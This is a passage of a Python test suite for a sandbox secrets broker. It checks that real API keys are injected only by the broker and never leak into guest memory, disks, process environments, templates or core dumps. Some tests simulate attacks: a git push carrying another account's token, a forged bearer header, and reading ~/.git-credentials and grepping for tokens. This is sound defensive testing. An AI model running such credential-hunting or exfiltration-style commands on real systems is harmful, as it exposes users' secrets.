        """Before it is too old, by the supervisor; the sentinel stays, and a command that fails changes nothing."""
        h, printed = self.h, self.h.dir / "printed"
        def sent():
            self.sh("curl -sSk --http1.1 https://api.changing.example/ -o /dev/null")
            return self.two.seen[-1][2].get("authorization")
        row = lambda: next(r for r in json.loads(h.sbx("secret", "ls", "--json")) if r["service"] == "changing")
        sentinel = self.sh("printf %s $CHANGING_API_KEY")
        self.assertTrue(wait_for(lambda: row()["updated"] > row()["created"], 20))
        # The host sleeps until long after that: when it wakes, the old value is not used for long.  And the command takes its time.
        (supervisor,) = [int(p) for p, argv, _ in processes_of(h) if argv.split(b"\0")[1:3] == [b"supervise", b"s"]]
        os.kill(supervisor, signal.SIGSTOP)
        try:
            printed.unlink()
            os.mkfifo(printed)
            time.sleep(max(row()["expires"] - time.time(), 0) + 0.2)
        finally:
            os.kill(supervisor, signal.SIGCONT)
        def reader():
            try:
                return os.open(printed, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                return None
        fd = wait_for(reader, 3)
        self.assertTrue(fd)
        # While it is waited for, the store is open to others.
        h.sbx("secret", "set", "-g", "xai", "-t", "xai-0123456789abcdef", timeout=60)
        h.sbx("secret", "rm", "-g", "xai", timeout=60)
        os.write(fd, b"printed-second-9876543210")
        os.close(fd)
        self.assertTrue(wait_for(lambda: sent() == "Bearer printed-second-9876543210", 5))
        self.assertEqual(self.sh("printf %s $CHANGING_API_KEY"), sentinel)
        printed.unlink()
        r = h.run("secret", "test", "changing")  # no test is known for it, but it tries to renew it
        self.assertNotEqual(r.returncode, 0)
        self.assertEqual(sent(), "Bearer printed-second-9876543210")

    def test_git_clones_and_pushes_to_a_private_repository(self):
        self.sh("rm -rf /tmp/p && git clone -q https://gist.github.com/private.git /tmp/p && cd /tmp/p && echo hello > file && git add file && "
                "git -c user.name=a -c user.email=a@example.com commit -qm second && git push -q origin HEAD:main")
        self.assertEqual(self.git.log_of("main"), ["second", "first"])
        # With another account's token in the address, or in a helper: ours all the same.
        self.sh("cd /tmp/p && git push -q https://evil:ghp_attackers0000000000000000000000000000@gist.github.com/private.git HEAD:other")
        self.assertEqual(self.git.log_of("other"), ["second", "first"])
        self.assertFalse([a for _, _, a in self.git.seen if not a or "attackers" in base64.b64decode(a[6:]).decode()])
        found = self.sh("cat /tmp/p/.git/config ~/.git-credentials 2>/dev/null; grep -rl -e 'realTOKEN[0-9]123456789' /tmp /home /root 2>/dev/null || true")
        self.assertNotIn("realTOKEN", found)

    def test_aws_requests_are_signed_anew(self):
        """What the guest signed with sentinels bears a signature of the real key, content included."""
        self.sh("seq 1 40000 > /tmp/content")
        for n, content in enumerate(("-d '{\"prompt\":1}'", "--data-binary @/tmp/content", "-X DELETE")):
            self.one.seen.clear()
            self.sh(f"curl -sS --fail-with-body --http1.1 --aws-sigv4 aws:amz:us-east-1:bedrock --user \"$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY\" "
                    f"{content} 'https://bedrock-runtime.us-east-1.amazonaws.com/model/a%3Ab/invoke'")
            method, path, sent = self.one.seen[-1]
            body = self.one.bodies[-1]
            if n == 1:
                self.assertEqual(body, b"".join(b"%d\n" % i for i in range(1, 40001)))
            auth = dict(p.split("=", 1) for p in sent["authorization"].removeprefix("AWS4-HMAC-SHA256 ").split(", "))
            names = auth["SignedHeaders"].split(";")
            hashed = sent.get("x-amz-content-sha256") or hashlib.sha256(body).hexdigest()
            canonical = "\n".join([method, urllib.parse.quote(path, safe="/-._~"), "", *(f"{k}:{sent[k]}" for k in names), "", ";".join(names), hashed])
            scope = auth["Credential"].split("/", 1)[1]
            key = b"AWS4" + AWS_KEY.encode()
            for part in [*scope.split("/"), "\n".join(["AWS4-HMAC-SHA256", sent["x-amz-date"], scope, hashlib.sha256(canonical.encode()).hexdigest()])]:
                key = hmac.new(key, part.encode(), hashlib.sha256).digest()
            self.assertEqual((auth["Credential"].split("/")[0], auth["Signature"]), (AWS_ID, key.hex()), canonical)

    def test_the_lock_changes_while_it_runs(self):
        """The broker is confined, and has neither a passphrase nor a keyring; what it opened stays open."""
        h = self.h
        def sent():
            self.sh("curl -sSk --http1.1 https://api.acme.example/ -o /dev/null")
            return self.two.seen[-1][2].get("x-api-key")
        try:
            h.sbx("secret", "lock", "--passphrase", "--password-stdin", input=b"correct horse battery\n")
            h.sbx("secret", "set", "-g", "acme", "--host", "api.acme.example", "--header", "X-Api-Key", "-t", "acme-locked-0123456789")
            self.assertTrue(wait_for(lambda: sent() == "acme-locked-0123456789", 5))
            store = json.loads((h.dir / "data/sbx/secrets/store.json").read_text())
            self.assertNotIn("bridge", store)  # the way from the old key to the new one, for brokers that run
            h.sbx("secret", "lock", "--passphrase", "--password-stdin", input=b"another horse battery\n")
            h.sbx("secret", "rotate", "-g", "acme", "-t", "acme-another-0123456789")
            self.assertEqual(sent(), "acme-another-0123456789")
            self.assertNotEqual(json.loads((h.dir / "data/sbx/secrets/store.json").read_text())["wrap"]["of"], store["wrap"]["of"])
        finally:
            h.sbx("secret", "lock", "--keyfile")
            h.run("secret", "rm", "-g", "acme")
        self.assertTrue(wait_for(lambda: sent() is None, 5))
        self.assertEqual(h.ls()["s"]["state"], "running")

    def test_a_store_that_cannot_be_read_takes_no_credential_away(self):
        """Else the guest's own would pass in its place, where another account could carry data out; and it is said."""
        store = self.h.dir / "data/sbx/secrets/store.json"
        good = store.read_bytes()
        def put(data):
            (store.parent / "beside").write_bytes(data)
            os.rename(store.parent / "beside", store)
        try:
            put(b"{")
            told = lambda: [r for r in json.loads(self.h.sbx("policy", "log", "s", "--raw", "--json")) if r["rule"] == "secrets" and "damaged" in r["reason"]]
            self.assertTrue(wait_for(told, 5))
            self.sh("curl -sS https://api.openai.com/v1/x -H 'Authorization: Bearer sk-attacker' -o /dev/null")
            self.assertEqual(self.one.seen[-1][2]["authorization"], f"Bearer {KEY}")
        finally:
            put(good)

    def test_threat_74_no_trace_outside_of_the_broker(self):
        """The guest's memory and disk, the host's files, argument lists, environments, and the memory of every process but the broker."""
        self.sh("curl -sS https://api.openai.com/split -o /tmp/answer; curl -sS https://github.com/x.git/info/refs -o /tmp/two; sync; env > /tmp/env")
        time.sleep(0.5)
        h = self.h
        found = self.sh("grep -rl -e 'real/KEY_[0-9]123456789' -e 'realTOKEN[0-9]123456789' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr 2>/dev/null || true")
        self.assertEqual(found.strip(), "")
        for path in h.dir.rglob("*"):
            if path.is_file() and not path.is_symlink() and "ca" not in path.parts:
                for data in written(path):  # the machine's whole disk among them
                    self.assertFalse(b"real/KEY_0123456789" in data or b"realTOKEN0123456789" in data, path)
        machine = json.loads(h.sbx("inspect", "s"))["machine"]
        mine = {}
        for p, argv, environ in processes_of(h):
            mine[p] = argv.split(b"\0")
            for where in (argv, environ):
                self.assertFalse(b"real/KEY_0123456789" in where or b"realTOKEN0123456789" in where, argv)
        self.assertTrue(mine)
        looked, authority = 0, authority_key(h)
        self.assertEqual(keys_in_plain(h, authority), [])
        for p, argv in mine.items():
            # A sanitizer keeps a copy of the variables that a process began with; the supervisor wipes its own.
            if len(argv) > 1 and (argv[1] == b"broker" or (SANITIZED and argv[1] == b"supervise")):
                continue
            for needle in (b"real/KEY_0123456789", b"realTOKEN0123456789"):
                self.assertFalse(in_memory(p, needle), argv)
            self.assertFalse(in_memory(p, *spellings_of_key(authority)), argv)
            looked += 1
        self.assertTrue(any(argv[0].startswith(b"qemu-system") for argv in mine.values()), mine)
        self.assertGreaterEqual(looked, 4 if SANITIZED else 5, mine)  # supervisor, net, fs, screen, QEMU (with the guest's memory)
        self.assertTrue(machine)


class Saved(unittest.TestCase):
    def test_threat_75_a_template_holds_no_secret(self):
        h = Home()
        self.addCleanup(h.close)
        h.sbx("secret", "set", "-g", "openai", "--password-stdin", input=KEY.encode())
        h.sbx("create", "--name", "t", "shell", h.ws)
        self.assertEqual(h.sh("t", "env > ~/env; echo $OPENAI_API_KEY > ~/key; sync").returncode, 0)
        h.sbx("template", "save", "t", "clean:v1")
        for data in written(h.dir / "data/sbx/templates/clean:v1/disk"):
            self.assertNotIn(KEY.encode(), data)
        # Whoever works in there may have put it in by hand; a deleted file is still on the disk.
        leak = base64.b64encode(b"OPENAI_API_KEY=" + KEY.encode()).decode()
        self.assertEqual(h.sh("t", f"echo {leak} > ~/leak; sync; rm ~/leak; sync").returncode, 0)
        r = h.run("save", "t", "leaks:v1")
        self.assertEqual(r.returncode, 1, r.stderr)
        self.assertIn(b"openai", r.stderr)
        self.assertNotIn(KEY.encode(), r.stderr)
        self.assertFalse((h.dir / "data/sbx/templates/leaks:v1").exists())
        self.assertEqual(h.ls()["t"]["state"], "running")
        h.sbx("secret", "rotate", "-g", "openai", "--password-stdin", input=b"sk-proj-another-0123456789abcdefgh")
        h.sbx("save", "t", "worthless:v1")


class Crash(unittest.TestCase):
    def test_threat_74_a_crash_leaves_no_core(self):
        """Each process of a sandbox with a secret, one sandbox each: SIGSEGV, and nothing of the secret on a disk."""
        h = Home()
        h.env["ASAN_OPTIONS"] = "detect_leaks=0:handle_segv=0"
        self.addCleanup(h.close)
        cores = h.dir / "cores"
        cores.mkdir()
        h.sbx("secret", "set", "-g", "openai", "--password-stdin", input=KEY.encode())
        resource.setrlimit(resource.RLIMIT_CORE, (resource.getrlimit(resource.RLIMIT_CORE)[1],) * 2)
        for role in ("broker", "net", "screen", "fs", "supervise"):
            h.sbx("create", "--name", role, "shell", h.ws)
            h.sbx("start", role, cwd=cores)
            mine = [int(p) for p in os.listdir("/proc") if p.isdigit() and self.argv(p)[1:3] == [role.encode(), role.encode()] and
                    str(h.dir).encode() in pathlib.Path(f"/proc/{p}/environ").read_bytes()]
            self.assertEqual(len(mine), 1, role)
            limits = pathlib.Path(f"/proc/{mine[0]}/limits").read_text()
            self.assertRegex(limits, r"Max core file size +0 +0", role)
            folder = os.readlink(f"/proc/{mine[0]}/cwd")
            before = set(os.listdir(folder))
            os.kill(mine[0], signal.SIGSEGV)
            self.assertTrue(wait_for(lambda: not alive(mine[0]), 10), role)
            self.assertFalse([f for f in set(os.listdir(folder)) - before if "core" in f], role)
            h.run("rm", "--force", role)
        for path in h.dir.rglob("*"):
            if path.is_file() and not path.is_symlink() and path.stat().st_size < 1 << 28:
                self.assertNotIn(KEY.encode(), path.read_bytes(), path)

    @staticmethod
    def argv(pid):
        try:
            return pathlib.Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
        except OSError:
            return []


def written(path):
    """A file's data without its holes, in pieces that overlap."""
    with open(path, "rb", 0) as f:
        at = 0
        while True:
            try:
                at = f.seek(at, os.SEEK_DATA)
            except OSError:
                return
            data = f.read(1 << 24)
            yield data
            at += max(len(data) - 64, 64)


def processes_of(home):
    """(pid, argv, environment) of all that sbx runs for a home.  QEMU has an environment of its own: it is the supervisor's child."""
    found, rest = {}, {}
    for p in filter(str.isdigit, os.listdir("/proc")):
        try:
            argv, environ, stat = (pathlib.Path(f"/proc/{p}/{f}").read_bytes() for f in ("cmdline", "environ", "stat"))
        except OSError:
            continue
        if int(p) != os.getpid():
            (found if str(home.dir).encode() in environ else rest)[p] = argv, environ, stat.rpartition(b")")[2].split()[1].decode()
    more = True
    while more:
        more = {p: v for p, v in rest.items() if v[2] in found and p not in found}
        found.update(more)
    return [(p, argv, environ) for p, (argv, environ, _) in found.items()]


if __name__ == "__main__":
    unittest.main(verbosity=2)
